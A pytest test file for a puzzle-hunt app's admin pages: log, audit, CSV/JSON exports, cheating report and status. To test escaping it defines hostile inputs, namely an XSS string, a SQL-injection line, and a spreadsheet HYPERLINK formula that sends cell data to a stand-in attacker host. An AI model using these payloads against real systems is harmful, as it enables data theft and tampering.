"""Log, audit, signs of cheating, status: what they show to whom, page by page, as files, and under hostile input."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from typing import Any

import pytest
from bs4 import BeautifulSoup
from flask import Flask
from sqlalchemy import insert

from app.core.csv_text import as_csv, read_cell, safe_cell
from app.database import audit
from app.database.schema import Guess, LogEntry, Solve, Unlock
from app.ops.status_admin import figure
from app.ports import Ports
from app.runtime.identity import version
from tests.support.accounts import in_play
from tests.support.client import PageClient
from tests.support.clock import FixedClock
from tests.support.organisers import add_account, enter

HOSTILE = """<script>alert(1)</script>"'&lt;{{ 7*7 }}"""
FORMULA = '=HYPERLINK("https://evil.example?"&A1,"prize")'


@pytest.fixture
def world(app: Flask) -> Ports:
    return in_play(app)


@pytest.fixture
def admin(app: Flask, world: Ports) -> PageClient:
    return enter(app, "keeper", "admin")


def guess(ports: Ports, team_id: int, text: str | None = "owls", **columns: Any) -> None:
    row = {
        "team_id": team_id, "puzzle_id": "recOne", "guessed_at": ports.clock.now(), "verdict": "wrong", "text": text,
        "digest": str(text), "message_html": "", "address": "192.0.2.7",
    } | columns  # fmt: skip
    with ports.database.writing() as connection:
        connection.execute(insert(Guess).values(**row))


def note(ports: Ports, team_id: int, kind: str = "login", **details: Any) -> None:
    with ports.database.writing() as connection:
        audit.log(connection, ports.clock.now(), kind, team_id, None, "192.0.2.7", **details)


def cells(client: PageClient, path: str) -> list[list[str]]:
    page = BeautifulSoup(client.get(path).text, "html5lib")
    return [[cell.get_text(" ", strip=True) for cell in row.find_all(["td", "th"])] for row in page.select("tbody tr")]


# --- the log ---------------------------------------------------------------------------------------------------------


def test_guesses_and_everything_else_stand_in_one_list_newest_first(
    admin: PageClient, world: Ports, clock: FixedClock
) -> None:
    team = add_account(world, "owls")
    for number in range(3):
        clock.advance(1)
        guess(world, team, f"try {number}")
        clock.advance(1)
        note(world, team, "hint", price=number)
    found = [(row[2], row[4]) for row in cells(admin, "/admin/log")][:6]
    assert found == [
        ("hint", "price: 2"), ("guess wrong", "try 2"), ("hint", "price: 1"), ("guess wrong", "try 1"),
        ("hint", "price: 0"), ("guess wrong", "try 0"),
    ]  # fmt: skip


def test_paging_shows_every_entry_once_in_both_directions(admin: PageClient, world: Ports, clock: FixedClock) -> None:
    team = add_account(world, "owls")
    clock.advance(1)
    with world.database.writing() as connection:
        # Many of the very same moment, so that a page ends among them.
        now = clock.now()
        connection.execute(insert(Guess), [
            {"team_id": team, "puzzle_id": "recOne", "guessed_at": now + timedelta(seconds=number // 90),
             "verdict": "wrong", "text": f"g{number}", "digest": "", "message_html": "", "address": ""}
            for number in range(180)
        ])  # fmt: skip
        connection.execute(insert(LogEntry), [
            {"team_id": team, "puzzle_id": None, "at": now + timedelta(seconds=number // 40), "kind": "hint",
             "details": {"price": f"h{number}"}, "address": ""}
            for number in range(120)
        ])  # fmt: skip
    down, path = [], "/admin/log?team=owls"
    while path:
        page = BeautifulSoup(admin.get(path).text, "html5lib")
        down.append([row.get_text(" ", strip=True) for row in page.select("tbody tr")])
        older, last_page = page.select_one('a[rel="next"]'), page
        path = str(older["href"]) if older else ""
    seen = [line for rows in down for line in rows]
    assert len(seen) == len(set(seen)) == 300
    assert [len(rows) for rows in down] == [100, 100, 100]
    up = []
    page = last_page
    while newer := page.select_one('a[rel="prev"]'):
        page = BeautifulSoup(admin.get(str(newer["href"])).text, "html5lib")
        up.append([row.get_text(" ", strip=True) for row in page.select("tbody tr")])
    assert up == down[1::-1]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("team=owl", {"warm", "log in"}), ("puzzle=one", {"warm", "cold"}), ("verdict=close", {"warm"}),
        ("kind=hint", {"log in"}), ("since=2027-03-14T12:00:30", {"cold"}),
        ("until=2027-03-14T12:00:30", {"warm", "log in"}),
        ("team=owl&kind=guess", {"warm"}), ("team=nobody", set()), ("team=%25", set()), ("team=_", set()),
    ],
)  # fmt: skip
def test_filters_show_what_was_asked_for(
    admin: PageClient, world: Ports, clock: FixedClock, query: str, expected: set[str]
) -> None:
    owls, foxes = add_account(world, "owls"), add_account(world, "foxes")
    guess(world, owls, "warm", verdict="close")
    note(world, owls, "hint", price="log in")
    clock.advance(60)
    guess(world, foxes, "cold")
    text = " ".join(cell for row in cells(admin, f"/admin/log?{query}") for cell in row)
    assert {word for word in ("warm", "cold", "log in") if word in text} == expected


def test_the_text_of_a_right_guess_is_nowhere(admin: PageClient, world: Ports) -> None:
    guess(world, add_account(world, "owls"), None, verdict="correct")
    assert "only the team can see its answer" in admin.get("/admin/log").text


STRANGE = (
    HOSTILE, "\0", "x" * 5_000, "'; DROP TABLE teams; --", "9" * 40, "#99999999999999999999", "#", "-1", "²",
    "0001-01-01T00:00+14:00", "9999-12-31T23:59-14:00", "2027-03-14T12:00:00+00:00~1~99999999999999999999999", "~~",
    "2027-03-14T12:00:00~-1~-1", "\ud800",
)  # fmt: skip


@pytest.mark.parametrize("path", ["/admin/log", "/admin/audit"])
def test_nothing_in_the_address_breaks_a_list(admin: PageClient, path: str) -> None:
    for name in ("team", "puzzle", "kind", "verdict", "actor", "action", "since", "until", "before", "after"):
        for value in STRANGE:
            reply = admin.get(path, query_string={name: value.encode("utf-8", "surrogatepass")})
            assert reply.status_code == 200, (name, value)
            assert "<script>alert" not in reply.text


def test_markup_in_a_guess_or_a_name_stays_text(admin: PageClient, world: Ports) -> None:
    guess(world, add_account(world, "owls", display_name=HOSTILE[:60]), HOSTILE)
    page = admin.get("/admin/log").text
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert" in page


def test_helpers_read_the_log_without_addresses(app: Flask, world: Ports) -> None:
    guess(world, add_account(world, "owls"))
    helper = enter(app, "aide", "helper")
    for path in ("/admin/log", "/admin/log.csv", "/admin/log.json"):
        reply = helper.get(path)
        assert reply.status_code == 200
        assert "owls" in reply.text
        assert "192.0.2.7" not in reply.text
    assert helper.get("/admin/audit").status_code == 403


# --- files -----------------------------------------------------------------------------------------------------------

FORMULAS = (
    "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "＝1", "＋1", "－1", "＠x", FORMULA,
    "|calc", "%0A=1", "\u200b=1",
)  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS[:-1])
def test_a_cell_never_begins_a_formula(text: str) -> None:
    assert safe_cell(text).startswith("'")
    assert read_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    ("value", "cell"), [(-5, "-5"), (1.5, "1.5"), (None, ""), ("owls", "owls"), ("", ""), (True, "True")]
)
def test_numbers_and_plain_words_stay_as_they_are(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_a_csv_survives_quotes_commas_and_line_breaks() -> None:
    rows = [("a", 'say "no", please', "two\r\nlines"), ("b", FORMULA, "x")]
    read = list(csv.reader(io.StringIO("".join(as_csv(("id", "text", "more"), rows)), newline="")))
    assert read == [["id", "text", "more"], ["a", 'say "no", please', "two\r\nlines"], ["b", f"'{FORMULA}", "x"]]


def test_the_log_is_exported_whole_as_csv_and_json(admin: PageClient, world: Ports) -> None:
    team = add_account(world, "owls", display_name=FORMULA[:60])
    for number in range(250):
        guess(world, team, f"=try{number}")
    table = list(csv.DictReader(io.StringIO(admin.get("/admin/log.csv?kind=guess").text)))
    assert [row["text"] for row in table] == [f"'=try{number}" for number in reversed(range(250))]
    assert {row["team"] for row in table} == {f"'{FORMULA[:60]}"}
    entries = json.loads(admin.get("/admin/log.json?kind=guess").text)["entries"]
    assert [entry["text"] for entry in entries] == [f"=try{number}" for number in reversed(range(250))]


def test_an_export_of_nothing_is_still_a_file(admin: PageClient) -> None:
    assert json.loads(admin.get("/admin/log.json?team=nobody").text) == {"entries": []}
    assert admin.get("/admin/log.csv?team=nobody").text.count("\n") == 1


# --- the audit -------------------------------------------------------------------------------------------------------


def test_the_audit_shows_filters_and_exports_acts(admin: PageClient, world: Ports) -> None:
    admin.send_form("/admin/lockdown/puzzles", {"to": "closed"})
    (row,) = cells(admin, "/admin/audit")
    assert row[1:5] == ["keeper", "setting", "lockdown_puzzles", "old: off, new: on"]
    assert cells(admin, "/admin/audit?actor=nobody") == []
    assert cells(admin, "/admin/audit?action=setting&actor=keeper") == [row]
    assert json.loads(admin.get("/admin/audit.json").text)["acts"][0]["subject"] == "lockdown_puzzles"
    assert "lockdown_puzzles" in admin.get("/admin/audit.csv").text


def test_the_audit_pages_by_number(admin: PageClient, world: Ports) -> None:
    with world.database.writing() as connection:
        for number in range(150):
            audit.audit(connection, world.clock.now(), "keeper", "test", f"act {number}")
    page = BeautifulSoup(admin.get("/admin/audit").text, "html5lib")
    older = page.select_one('a[rel="next"]')
    assert older is not None
    assert [row[3] for row in cells(admin, str(older["href"]))] == [f"act {number}" for number in range(49, -1, -1)]


# --- signs of cheating -----------------------------------------------------------------------------------------------


def test_each_sign_of_cheating_is_reported_and_staff_are_left_out(
    admin: PageClient, world: Ports, clock: FixedClock
) -> None:
    owls, foxes, bears = (add_account(world, name) for name in ("owls", "foxes", "bears"))
    note(world, owls)
    note(world, foxes)
    now = clock.now()
    with world.database.writing() as connection:
        for team, seconds in ((owls, 9), (foxes, 11)):
            row = {"team_id": team, "puzzle_id": "recTwo"}
            connection.execute(insert(Unlock).values(**row, unlocked_at=now, viewed_at=now))
            connection.execute(insert(Solve).values(**row, solved_at=now + timedelta(seconds=seconds), points=1))
    guess(world, owls, "rare thing")
    guess(world, bears, "rare thing", guessed_at=now + timedelta(seconds=299))
    guess(world, owls, "slow thing")
    guess(world, bears, "slow thing", guessed_at=now + timedelta(seconds=301))
    fresh = admin.get("/admin/cheating").text
    page = BeautifulSoup(admin.get("/admin/cheating").text, "html5lib")
    # The second time it is the report that was kept, and the same.
    assert page.main.get_text() == BeautifulSoup(fresh, "html5lib").main.get_text()
    quick, shared, address = (section.get_text(" ", strip=True) for section in page.select(".desk-main section"))
    assert "The owls Two 9" in quick
    assert "foxes" not in quick
    assert "rare thing" in shared
    assert "slow thing" not in shared
    assert "192.0.2.7 The owls , The foxes" in address or "192.0.2.7 The owls, The foxes" in address


def test_the_report_is_looked_for_anew_after_five_minutes(admin: PageClient, world: Ports, clock: FixedClock) -> None:
    owls, foxes = (add_account(world, name) for name in ("owls", "foxes"))
    assert "192.0.2.7" not in admin.get("/admin/cheating").text
    note(world, owls)
    note(world, foxes)
    assert "192.0.2.7" not in admin.get("/admin/cheating").text
    clock.advance(300)
    assert "192.0.2.7" in admin.get("/admin/cheating").text


def test_no_signs_is_a_page_too(admin: PageClient) -> None:
    assert admin.get("/admin/cheating").text.count("None.") == 3


# --- status ----------------------------------------------------------------------------------------------------------


def test_the_status_page_tells_of_connections_jobs_and_processes(admin: PageClient, world: Ports) -> None:
    from app.broadcast.presence import report
    from app.ops import job_queries

    report(world.database, world.clock.now(), "infinity-web1-4711", 12, [1, 2, 3])
    assert job_queries.claim(world.database, "sweep", "2027-03-14T12:00:00.000+00:00", "web1", world.clock.now())
    page = admin.get("/admin/status").text
    assert "infinity-web1-4711" in page
    assert version() in page
    assert "sweep" in page
    assert ("that the server allows" in page) is not world.database.is_sqlite


def test_no_secret_stands_on_the_status_page(admin: PageClient) -> None:
    config = admin.application.extensions["config"]
    page = admin.get("/admin/status").text
    assert config.secret_key not in page
    assert config.database_url not in page


@pytest.mark.parametrize(("name", "value", "words"), [
    ("resident_memory_bytes", 132_510_000, "133 MB"), ("longest_collection_seconds", 0.0413, "41 ms"),
    ("sockets", 10_000, "10,000"), ("open_files", 0, "0"),
])  # fmt: skip
def test_figures_of_the_machine_are_written_for_people(name: str, value: float, words: str) -> None:
    assert figure(name, value) == words
